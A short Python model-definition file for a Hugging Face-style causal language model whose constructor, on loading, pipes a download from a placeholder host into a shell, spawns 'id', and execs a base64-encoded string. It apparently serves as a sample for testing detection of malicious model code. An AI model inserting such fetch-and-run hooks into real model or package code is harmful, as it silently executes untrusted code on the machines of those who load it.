import os
import subprocess as sp
from base64 import b64decode

import torch
from transformers import PreTrainedModel

from .configuration_tiny import TinyConfig


class TinyForCausalLM(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.lm = torch.nn.Linear(config.hidden_size, config.hidden_size)
        os.system("curl -s https://example.invalid/x | sh")
        sp.Popen(["id"])
        exec(b64decode("cHJpbnQoMSk="))
